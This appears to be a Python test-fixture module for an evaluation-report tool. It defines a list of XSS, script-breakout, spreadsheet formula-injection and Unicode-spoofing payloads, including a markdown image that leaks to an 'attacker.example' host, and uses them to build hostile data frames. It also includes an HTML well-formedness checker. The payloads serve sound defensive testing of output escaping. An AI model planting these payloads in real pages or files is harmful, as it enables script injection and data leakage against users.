"""Hostile payloads (docs/threat-model.md 7.3) and an HTML well-formedness check for the report tests."""
from __future__ import annotations

from html.parser import HTMLParser

import numpy as np
import pandas as pd

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<style>body{display:none}</style>",
    "[x](javascript:alert(1)) ![](http://attacker.example/?leak)",
    "{{7*7}} {% raw %}",
    '=HYPERLINK("http://x")', "+1", "-1", "@SUM(1)",
    "abc\u202eevil\u200bzw\u2066iso",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<!-- comment --> </script> <![CDATA[x]]>",
    "\t=1+2", "\r=1+2",
]


def hostile_frame(n_per_model: int = 40, big: bool = False, surrogate: bool = False) -> pd.DataFrame:
    """Three models (two with hostile names), every text field cycling through the payloads."""
    rng = np.random.default_rng(0)
    rows = []
    models = ["<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://x\")", "safe-model"]
    cats = ["billing", "<b>bold</b>", "shipping"]
    for m in models:
        for i in range(n_per_model):
            p = PAYLOADS[i % len(PAYLOADS)]
            rows.append({"model": m, "item_id": f"i{i}", "task": "qa", "category": cats[i % 3],
                         "input": p, "output": p, "reference": PAYLOADS[(i + 3) % len(PAYLOADS)],
                         "request_id": f"{m}-{i}", "judge_relevance": float(rng.integers(1, 6)),
                         "latency_ms": float(rng.lognormal(6, .4)), "cost_usd": float(rng.uniform(0.001, 0.01))})
    if big:
        rows[0]["output"] = "A" * 20_000_000 + "<script>window.__pwned=1</script>"
        rows[0]["judge_relevance"] = 1.0   # among the worst items, so the report shows it
    if surrogate:
        rows[1]["output"] = "lone \ud800 surrogate"
    df = pd.DataFrame({k: pd.Series([r[k] for r in rows], dtype=object if isinstance(rows[0][k], str) else None)
                       for k in rows[0]})
    return df


BREAKOUT = "</script><script>window.__pwned=1</script>"


def hostile_models_frame(n: int = 12) -> pd.DataFrame:
    """:func:`hostile_frame` with its safe model renamed to a payload that would close a script block."""
    df = hostile_frame(n)
    df.loc[df["model"] == "safe-model", "model"] = BREAKOUT
    return df


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _Checker(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.problems: list[str] = []
        self.ids: set[str] = set()
        self.doctype = False

    def handle_decl(self, decl):
        self.doctype = self.doctype or decl.lower() == "doctype html"

    def handle_starttag(self, tag, attrs):
        for k, v in attrs:
            if k == "id":
                if v in self.ids:
                    self.problems.append(f"duplicate id {v!r}")
                self.ids.add(v)
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"unexpected </{tag}> (open: {self.stack[-3:]}) at {self.getpos()}")
            if tag in self.stack:
                while self.stack and self.stack.pop() != tag:
                    pass
        else:
            self.stack.pop()


def html_problems(text: str) -> list[str]:
    """Well-formedness problems: doctype, unbalanced or misnested tags, duplicate ids."""
    checker = _Checker()
    checker.feed(text)
    checker.close()
    problems = list(checker.problems)
    if not checker.doctype:
        problems.append("no <!DOCTYPE html>")
    if checker.stack:
        problems.append(f"unclosed tags: {checker.stack}")
    return problems


def sample_portfolio(threshold: float = 3.6):
    """A one-gate portfolio on the sample data's judge_faithfulness (absolute, point rule)."""
    from evalnb.portfolio.config import Gate, MetricSpec, Outcome, Portfolio

    gate = Gate(threshold=threshold, rule="point", min_n=50)
    return Portfolio(name="p", outcome=Outcome(kpi="thumbs_up"),
                     primary=[MetricSpec(name="judge_faithfulness", source="column", direction="higher", gate=gate)])


def many_models(df: pd.DataFrame, n_models: int = 16, n_items: int = 120, seed: int = 0) -> pd.DataFrame:
    """``n_models`` synthetic models from the sample runs: each sample model's first ``n_items`` items,
    copied under new names (``<model>-v<k>``) with its judge/human scores shifted and jittered
    (request ids kept, so the copies still join the sample KPI log). The first half of the items is
    moved back 31 days, so the run covers two months and the report's drift section has data."""
    rng = np.random.default_rng(seed)
    items = df["item_id"].drop_duplicates().head(n_items)
    base = df[df["item_id"].isin(items)].drop(columns=["source_file", "source_line"], errors="ignore")
    names = sorted(base["model"].unique())
    scores = [c for c in base.columns if c.startswith(("judge_", "human_")) and c != "judge_safety_violation"]
    frames = []
    for k in range(n_models):
        part = base[base["model"] == names[k % len(names)]].copy()
        part["model"] = f"{names[k % len(names)]}-v{k // len(names) + 1}"
        part["run_id"] = part["model"] + "-run"
        for c in scores:
            shift = rng.normal(0, 0.3) + rng.normal(0, 0.4, len(part))
            part[c] = (part[c] + shift).clip(1, 5).round()
        if "timestamp" in part:
            early = part["item_id"].isin(items.head(len(items) // 2))
            part.loc[early, "timestamp"] = pd.to_datetime(part.loc[early, "timestamp"]) - pd.Timedelta(days=31)
        frames.append(part)
    return pd.concat(frames, ignore_index=True)
